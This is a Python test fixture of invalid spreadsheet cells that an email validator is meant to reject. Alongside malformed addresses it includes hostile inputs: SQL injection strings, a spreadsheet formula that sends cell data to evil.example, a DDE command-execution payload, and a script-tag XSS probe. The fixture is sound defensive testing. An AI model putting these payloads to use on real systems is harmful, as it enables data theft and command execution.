"""Cells that must be rejected locally, at zero cost, before any cache or provider.

Shared by the normalization tests and the engine tests (which check that none
of these reaches a provider). Each entry is ``(id, value)``.
"""

from __future__ import annotations

import datetime as dt
import math
from decimal import Decimal
from fractions import Fraction

EXCEL_ERRORS = (
    "#N/A", "#VALUE!", "#REF!", "#DIV/0!", "#NUM!", "#NAME?", "#NULL!", "#SPILL!", "#CALC!",
    "#GETTING_DATA", "#FIELD!", "#BLOCKED!", "#CONNECT!", "#BUSY!", "#UNKNOWN!",
)  # fmt: skip

BAD_CELLS: list[tuple[str, object]] = [
    # nothing there
    ("none", None),
    ("empty", ""),
    ("space", " "),
    ("whitespace-mix", " \t\r\n\u00a0\u2007\u202f"),
    ("zero-width-only", "\u200b\ufeff"),
    ("nan", math.nan),
    ("float-nan-neg", -math.nan),
    # not text
    ("int", 42),
    ("zero", 0),
    ("float", 3.14),
    ("inf", math.inf),
    ("decimal", Decimal("12.5")),
    ("fraction", Fraction(1, 3)),
    ("complex", 1 + 2j),
    ("true", True),
    ("false", False),
    ("date", dt.date(2024, 1, 31)),
    ("datetime", dt.datetime(2024, 1, 31, 12, 0)),
    ("time", dt.time(9, 30)),
    ("timedelta", dt.timedelta(days=1)),
    ("bytes", b"ada@acme.com"),
    ("bytearray", bytearray(b"ada@acme.com")),
    ("list", ["ada@acme.com"]),
    ("tuple", ("ada@acme.com",)),
    ("dict", {"email": "ada@acme.com"}),
    ("set", {"ada@acme.com"}),
    ("object", object()),
    ("com-error-na", -2146826246),
    # Excel error values, every kind, plus spacing/case/xlwings variants
    *((f"excel-{e.strip('#!?').replace('/', '').lower()}", e) for e in EXCEL_ERRORS),
    ("excel-na-spaces", "  #N/A  "),
    ("excel-na-lower", "#n/a"),
    ("excel-na-requesting", "#N/A Requesting Data..."),
    ("own-error-string", "#ERROR: empty cell"),
    # no address shape
    ("no-at", "ada.lovelace"),
    ("name-only", "Ada Lovelace"),
    ("two-at", "ada@@acme.com"),
    ("two-at-apart", "ada@acme@com"),
    ("missing-local", "@acme.com"),
    ("missing-domain", "ada@"),
    ("at-only", "@"),
    ("space-inside", "ada lovelace@acme.com"),
    ("space-domain", "ada@acme .com"),
    ("nbsp-inside", "ada\u00a0@acme.com"),
    ("list-semicolon", "a@b.com; c@d.com"),
    ("list-comma", "a@b.com,c@d.com"),
    ("list-newline", "a@b.com\nc@d.com"),
    ("cr-inside", "ada@acme.com\rx"),
    ("lf-inside", "ada\n@acme.com"),
    ("tab-inside", "ada\t@acme.com"),
    ("nul-inside", "ada\x00@acme.com"),
    ("bell-inside", "ada\x07@acme.com"),
    ("zero-width-inside", "ada\u200b@acme.com"),
    ("no-dot-domain", "ada@acme"),
    ("localhost", "ada@localhost"),
    ("reserved-tld", "ada@acme.test"),
    ("ip-literal", "ada@[192.168.0.1]"),
    ("ip-bare", "ada@192.168.0.1"),
    ("quoted-local", '"ada"@acme.com'),
    ("quoted-local-space", '"ada lovelace"@acme.com'),
    ("double-dot", "ada..lovelace@acme.com"),
    ("leading-dot", ".ada@acme.com"),
    ("trailing-dot-domain", "ada@acme.com."),
    ("hyphen-domain-start", "ada@-acme.com"),
    ("underscore-domain", "ada@ac_me.com"),
    ("numeric-tld", "ada@acme.123"),
    ("open-angle", "<ada@acme.com"),
    ("too-long-300", "a" * 300),
    ("too-long-address", "a" * 250 + "@acme.com"),
    ("long-label", "ada@" + "a" * 64 + ".com"),
    ("one-megabyte", "x" * 1_000_000),
    ("one-megabyte-at", "a" * 500_000 + "@" + "b" * 500_000 + ".com"),
    # hostile or accidental text
    ("sql-injection", "'; DROP TABLE contacts; --"),
    ("sql-injection-at", "x@y.com' OR '1'='1"),
    ("csv-formula", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("csv-formula-plus", "+cmd|' /C calc'!A0"),
    ("html", "<script>alert(1)</script>"),
    ("emoji-only", "\U0001f600\U0001f4e7"),
    ("emoji-domain", "ada@\U0001f600.com"),
    ("confusable-at", "ada\uff20acme.com"),
    ("confusable-cyrillic-no-at", "\u0430d\u0430.acme.com"),
    ("mailto-empty", "mailto:"),
    ("display-name-broken", "Ada <ada@acme.com"),
    ("url", "https://www.acme.com/contact"),
]
